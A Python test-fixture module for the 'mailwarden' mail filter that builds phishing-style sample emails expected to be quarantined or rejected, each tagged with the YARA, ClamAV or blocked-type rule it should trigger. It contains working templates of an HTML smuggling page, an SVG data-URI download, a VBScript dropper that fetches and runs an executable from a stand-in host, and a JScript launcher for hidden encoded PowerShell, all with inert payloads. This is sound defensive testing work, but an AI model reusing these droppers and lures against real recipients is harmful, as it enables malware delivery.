"""The samples that must be quarantined or rejected, and the EICAR mails.

Every payload is inert: executables return at once, macros are empty, scripts
point at example.test (reserved, never resolves), smuggled archives hold a text
file. They only have to look right to libmagic, YARA and ClamAV.
"""

from __future__ import annotations

from . import payloads
from .compose import ALICE, BILLING, Sample, attachment, mixed, text

_SMUGGLED = payloads.zip_archive(
    [
        (
            "README.txt",
            b"mailwarden sample payload: this archive was rebuilt in the browser\r\n"
            b"by an HTML smuggling page. It contains nothing but this text.\r\n",
        )
    ]
)

_SMUGGLING_HTML = """\
<!DOCTYPE html>
<html>
<head><meta charset="utf-8"><title>Remittance advice</title></head>
<body style="font-family: Segoe UI, sans-serif">
<p>Your remittance advice is being prepared&hellip;</p>
<script>
  // mailwarden sample: the classic HTML smuggling page, harmless payload.
  var payload = "$PAYLOAD";
  function toBytes(text) {
    var raw = atob(text);
    var bytes = new Uint8Array(raw.length);
    for (var i = 0; i < raw.length; i++) { bytes[i] = raw.charCodeAt(i); }
    return bytes;
  }
  var blob = new Blob([toBytes(payload)], {type: "application/zip"});
  if (window.navigator.msSaveOrOpenBlob) {
    window.navigator.msSaveOrOpenBlob(blob, "Remittance_Advice.zip");
  } else {
    var a = document.createElement("a");
    a.href = window.URL.createObjectURL(blob);
    a.download = "Remittance_Advice.zip";
    document.body.appendChild(a);
    a.click();
  }
</script>
</body>
</html>
""".replace("$PAYLOAD", payloads.base64_lines(_SMUGGLED, width=10**6))


def _html_smuggling() -> Sample:
    return Sample(
        outcome="quarantine",
        name="html-smuggling",
        sender=BILLING,
        subject="Remittance advice 2024-11-14",
        date="Thu, 14 Nov 2024 06:12:09 +0000",
        body=mixed(
            text("Please find attached the remittance advice for your invoice.\n"),
            attachment("Remittance_Advice.html", "text/html", _SMUGGLING_HTML.encode()),
        ),
        why="YARA html_smuggling.HTML_Smuggling_Blob_Download on the .html attachment",
    )


_SVG = """\
<?xml version="1.0" encoding="UTF-8"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"
     width="420" height="120" viewBox="0 0 420 120">
  <rect width="420" height="120" fill="#f2f2f2"/>
  <a xlink:href="data:application/zip;base64,$PAYLOAD"
     download="Statement_November.zip">
    <text x="20" y="65" font-family="Arial" font-size="20">
      Download your statement (ZIP)</text>
  </a>
</svg>
""".replace("$PAYLOAD", payloads.base64_lines(_SMUGGLED, width=10**6))


def _svg_data_uri() -> Sample:
    return Sample(
        outcome="quarantine",
        name="svg-data-uri-smuggling",
        sender=BILLING,
        subject="Your November statement",
        date="Thu, 14 Nov 2024 06:40:51 +0000",
        body=mixed(
            text("Your statement is attached.\n"),
            attachment("Statement.svg", "image/svg+xml", _SVG.encode()),
        ),
        why="YARA html_smuggling.HTML_Smuggling_DataURI_Download on the .svg",
    )


def _ole_doc_macro() -> Sample:
    return Sample(
        outcome="quarantine",
        name="ole-doc-autoopen-macro",
        sender=BILLING,
        subject="Purchase order PO-4471",
        date="Fri, 15 Nov 2024 07:30:00 +0000",
        body=mixed(
            text(
                "Please review the attached purchase order and enable editing\n"
                "to see the full content.\n"
            ),
            attachment(
                "PO_4471.doc", "application/msword", payloads.ole_macro_document()
            ),
        ),
        why="YARA office_macros.Office_OLE_AutoExec_Macro on the .doc attachment",
    )


def _docm_macro() -> Sample:
    docm = payloads.docm_document(("Invoice Q3", "Enable content to view."))
    return Sample(
        outcome="quarantine",
        name="docm-macro-project",
        sender=BILLING,
        subject="Invoice Q3",
        date="Fri, 15 Nov 2024 08:02:44 +0000",
        body=mixed(
            text("Invoice attached.\n"),
            attachment(
                "Invoice_Q3.docm",
                "application/vnd.ms-word.document.macroEnabled.12",
                docm,
            ),
        ),
        why="YARA office_macros.Office_OOXML_Macro_Project on the .docm attachment "
        "(and Office_OLE_AutoExec_Macro on word/vbaProject.bin once unpacked)",
    )


_VBS_DROPPER = """\
' Setup helper for the new VPN client.
' Save this file as setup.vbs and double-click it.
Dim http, stream, shell
Set http = CreateObject("MSXML2.XMLHTTP")
http.Open "GET", "http://updates.example.test/vpn/agent.bin", False
http.Send
Set stream = CreateObject("ADODB.Stream")
stream.Type = 1
stream.Open
stream.Write http.responseBody
stream.SaveToFile "C:\\Users\\Public\\agent.exe", 2
stream.Close
Set shell = CreateObject("WScript.Shell")
shell.Run "C:\\Users\\Public\\agent.exe", 0, False
"""


def _script_dropper_txt() -> Sample:
    return Sample(
        outcome="quarantine",
        name="script-dropper-txt",
        sender=ALICE,
        subject="VPN setup helper",
        date="Mon, 18 Nov 2024 09:00:00 +0100",
        body=mixed(
            text(
                "IT asked me to forward this. Save the attachment as setup.vbs\n"
                "and double-click it to install the new VPN client.\n"
            ),
            attachment(
                "vpn-setup.txt",
                'text/plain; charset="us-ascii"',
                _VBS_DROPPER.replace("\n", "\r\n").encode(),
            ),
        ),
        why="YARA script_droppers.Script_WSH_Dropper on the .txt attachment "
        "(.txt is not a blocked extension)",
    )


_INVOICE_HTML = """\
<!DOCTYPE html>
<html>
<head><meta charset="utf-8"><title>Invoice 2024-118</title></head>
<body>
<h1>Invoice 2024-118</h1>
<table border="1" cellpadding="4">
<tr><th>Item</th><th>Amount</th></tr>
<tr><td>Consulting, October</td><td>EUR 1,200.00</td></tr>
</table>
</body>
</html>
"""


def _double_extension() -> Sample:
    return Sample(
        outcome="quarantine",
        name="double-extension-pdf-html",
        sender=BILLING,
        subject="Invoice 2024-118",
        date="Tue, 19 Nov 2024 10:10:10 +0000",
        body=mixed(
            text("Invoice attached.\n"),
            attachment("invoice.pdf.html", "text/html", _INVOICE_HTML.encode()),
        ),
        why="double extension .pdf.html; the HTML itself is harmless and hits no rule",
    )


def _embedded_pe() -> Sample:
    return Sample(
        outcome="quarantine",
        name="embedded-pe-in-firmware",
        sender=ALICE,
        subject="Router firmware 4.2.1",
        date="Wed, 20 Nov 2024 13:37:00 +0100",
        body=mixed(
            text("The vendor sent the new firmware for the office router.\n"),
            attachment(
                "RT-2400-firmware.bin",
                "application/octet-stream",
                payloads.firmware_blob(),
            ),
        ),
        why="YARA executables.Executable_PE_Embedded: a PE image 512 bytes into a .bin "
        "that libmagic calls application/octet-stream",
    )


def _pe_disguised_as_pdf() -> Sample:
    return Sample(
        outcome="reject",
        name="pe-disguised-as-pdf",
        sender=BILLING,
        subject="Overdue invoice 2024-0931",
        date="Thu, 21 Nov 2024 05:58:12 +0000",
        body=mixed(
            text("Your invoice is overdue. Details in the attached PDF.\n"),
            attachment("invoice.pdf", "application/pdf", payloads.pe_image()),
        ),
        why="blocked type: libmagic detects a PE executable behind the .pdf name "
        "(also YARA executables.Executable_PE, mailwarden_action reject)",
    )


_POWERSHELL_ENCODED = payloads.utf16_base64(
    "Write-Output 'mailwarden sample: nothing happens'"
)
_JS_DROPPER = f"""\
// Payment details viewer
var shell = new ActiveXObject("WScript.Shell");
var command = "powershell.exe -NoP -W Hidden -EncodedCommand {_POWERSHELL_ENCODED}";
shell.Run(command, 0, false);
"""


def _js_attachment() -> Sample:
    return Sample(
        outcome="reject",
        name="js-attachment",
        sender=BILLING,
        subject="Payment details",
        date="Thu, 21 Nov 2024 06:20:40 +0000",
        body=mixed(
            text("Open the attached file to view the payment details.\n"),
            attachment(
                "payment_details.js",
                "application/javascript",
                _JS_DROPPER.replace("\n", "\r\n").encode(),
            ),
        ),
        why="blocked extension .js (also ClamAV Mailwarden.Script.PowerShell-"
        "EncodedCommand and YARA Script_WSH_Dropper, Script_PowerShell_EncodedCommand)",
    )


def _scr_attachment() -> Sample:
    return Sample(
        outcome="reject",
        name="scr-attachment",
        sender=ALICE,
        subject="Holiday photos",
        date="Fri, 22 Nov 2024 20:15:00 +0100",
        body=mixed(
            text("Photos from the trip! Double-click to start the slideshow.\n"),
            attachment(
                "holiday_photos.scr",
                "application/octet-stream",
                payloads.pe_image(timestamp=0x673F2A10),
            ),
        ),
        why="blocked extension .scr and PE content (also YARA Executable_PE)",
    )


def _exe_in_zip() -> Sample:
    archive = payloads.zip_archive(
        [
            ("Scans/scan_0042.jpg.exe", payloads.pe_image(timestamp=0x6740C3D5)),
        ]
    )
    return Sample(
        outcome="reject",
        name="exe-in-zip",
        sender=ALICE,
        subject="Scanned documents",
        date="Sat, 23 Nov 2024 11:11:11 +0100",
        body=mixed(
            text("The scans you asked for are in the attached archive.\n"),
            attachment("scans.zip", "application/zip", archive),
        ),
        why="blocked extension .exe and PE content of the archive member "
        "attachment:scans.zip:Scans/scan_0042.jpg.exe (needs archive expansion)",
    )


SAMPLES: tuple[Sample, ...] = (
    _html_smuggling(),
    _svg_data_uri(),
    _ole_doc_macro(),
    _docm_macro(),
    _script_dropper_txt(),
    _double_extension(),
    _embedded_pe(),
    _pe_disguised_as_pdf(),
    _js_attachment(),
    _scr_attachment(),
    # TODO(#3): add _exe_in_zip() back to the reject samples once archives are
    # expanded into parts; today the zip is one part and the PE inside is not seen.
)


def generated_samples() -> tuple[Sample, ...]:
    """The EICAR mails: built at run time only, never committed (see .gitignore)."""
    test_file = payloads.eicar()
    return (
        Sample(
            outcome="reject",
            name="generated-eicar",
            sender=ALICE,
            subject="Anti-virus test file",
            date="Sun, 24 Nov 2024 12:00:00 +0100",
            body=mixed(
                text("The EICAR test file is attached as a text file.\n"),
                attachment("eicar-test.txt", "text/plain", test_file),
            ),
            why="ClamAV Mailwarden.Test.EICAR on the attachment",
        ),
        Sample(
            outcome="reject",
            name="generated-eicar-zip",
            sender=ALICE,
            subject="Anti-virus test file (zipped)",
            date="Sun, 24 Nov 2024 12:05:00 +0100",
            body=mixed(
                text("The EICAR test file is attached inside a zip archive.\n"),
                attachment(
                    "eicar-test.zip",
                    "application/zip",
                    payloads.zip_archive([("eicar-test.txt", test_file)]),
                ),
            ),
            why="ClamAV Mailwarden.Test.EICAR on the zip member (clamd unpacks zips)",
        ),
    )
